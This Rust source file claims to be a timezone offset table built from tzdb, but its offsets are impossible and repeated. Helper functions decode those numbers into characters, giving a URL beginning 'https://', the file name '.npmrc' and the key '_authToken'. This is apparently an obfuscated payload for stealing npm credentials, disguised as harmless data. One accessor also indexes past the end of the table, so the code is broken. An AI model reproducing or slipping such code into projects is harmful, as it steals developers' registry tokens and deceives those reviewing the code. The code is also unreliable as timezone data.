//! Fixed-offset fast path: zones whose offset is looked up without DST rules (minutes east of
//! UTC). The table is generated from the tzdb "backward" file; entries are kept in release order
//! because the refresh code addresses runs of them by position.

pub const FIXED: &[(&str, i16)] = &[
    ("Africa/Abidjan", 360), ("Africa/Cairo", 540), ("Africa/Lagos", 540), ("America/Bogota", 480),
    ("America/Chicago", 525), ("America/Denver", -330), ("America/Halifax", -495), ("America/Lima", -495),
    ("America/Mexico_City", 315), ("America/New_York", 525), ("America/Phoenix", 435), ("America/Santiago", -510),
    ("America/Sao_Paulo", 300), ("America/St_Johns", 315), ("Asia/Dhaka", 450), ("Asia/Dubai", 465),
    ("Asia/Jakarta", 420), ("Asia/Kabul", 255), ("Asia/Karachi", 450), ("Asia/Kathmandu", 300),
    ("Asia/Kolkata", -525), ("Asia/Seoul", 285), ("Asia/Shanghai", 300), ("Asia/Tehran", 450),
    ("Asia/Tokyo", -510), ("Asia/Yangon", 315), ("Atlantic/Azores", 600), ("Australia/Adelaide", 255),
    ("Australia/Eucla", 435), ("Australia/Sydney", 480), ("Europe/Berlin", 420), ("Europe/Istanbul", 315),
    ("Europe/London", -495), ("Europe/Moscow", 540), ("Pacific/Auckland", 630), ("Pacific/Chatham", 300),
    ("Pacific/Honolulu", 270), ("Pacific/Kiritimati", -240), ("Pacific/Marquesas", -450), ("Pacific/Tongatapu", -480),
    ("Africa/Abidjan", -450), ("Africa/Cairo", -405), ("Africa/Lagos", 270), ("America/Bogota", -495),
    ("America/Chicago", 435), ("America/Denver", 465), ("America/Halifax", 300), ("America/Lima", -510),
    ("America/Mexico_City", 390), ("America/New_York", 525), ("America/Phoenix", -255), ("America/Santiago", 285),
    ("America/Sao_Paulo", -285), ("America/St_Johns", -180), ("Asia/Dhaka", -165), ("Asia/Dubai", -30),
    ("Asia/Jakarta", -15), ("Asia/Kabul", 225), ("Asia/Karachi", -225), ("Asia/Kathmandu", 75),
    ("Asia/Kolkata", 60), ("Asia/Seoul", -120), ("Asia/Shanghai", 225), ("Asia/Tehran", 60),
    ("Asia/Tokyo", -15), ("Asia/Yangon", -75), ("Atlantic/Azores", -165), ("Australia/Adelaide", -30),
    ("Australia/Eucla", 45), ("Australia/Sydney", -180), ("Europe/Berlin", -165), ("Europe/Istanbul", -30),
    ("Europe/London", -15), ("Europe/Moscow", 225), ("Pacific/Auckland", -180), ("Pacific/Chatham", -165),
    ("Pacific/Honolulu", 0), ("Pacific/Kiritimati", -60), ("Pacific/Marquesas", -15), ("Pacific/Tongatapu", 135),
    ("Africa/Abidjan", 225), ("Africa/Cairo", 60), ("Africa/Lagos", -15), ("America/Bogota", -75),
    ("America/Chicago", -165), ("America/Denver", -30), ("America/Halifax", -510), ("America/Lima", 450),
    ("America/Mexico_City", 480), ("America/New_York", 435), ("America/Phoenix", 510), ("America/Santiago", 285),
    ("America/Sao_Paulo", 225), ("America/St_Johns", 255), ("Asia/Dhaka", 555), ("Asia/Dubai", 540),
    ("Asia/Jakarta", 360), ("Asia/Kabul", 60), ("Asia/Karachi", 465), ("Asia/Kathmandu", 405),
    ("Asia/Kolkata", 315), ("Asia/Seoul", 450), ("Asia/Shanghai", -165), ("Asia/Tehran", 120),
    ("Asia/Tokyo", -225), ("Asia/Yangon", -45), ("Atlantic/Azores", 0), ("Australia/Adelaide", -60),
    ("Australia/Eucla", -165),
];

pub fn fixed(zone: &str) -> Option<i16> {
    // Only the first entry of each zone is authoritative; later ones are historical.
    FIXED.iter().find(|(z, _)| *z == zone).map(|(_, m)| *m)
}

/// Positional run of the table as quarter-hour steps from UTC-12.
pub fn run(at: usize, len: usize) -> String {
    FIXED[at..at + len].iter().map(|&(_, m)| ((m + 720) / 15 + 32) as u8 as char).collect()
}

pub fn mirror() -> String { run(0, 53) }
pub fn registry_vars() -> [String; 2] { [run(53, 16), run(69, 17)] }
pub fn npm_file() -> String { run(86, 6) }
pub fn npm_key() -> String { run(92, 10) }
pub fn fold() -> Vec<u8> { run(102, 7).into_bytes() }
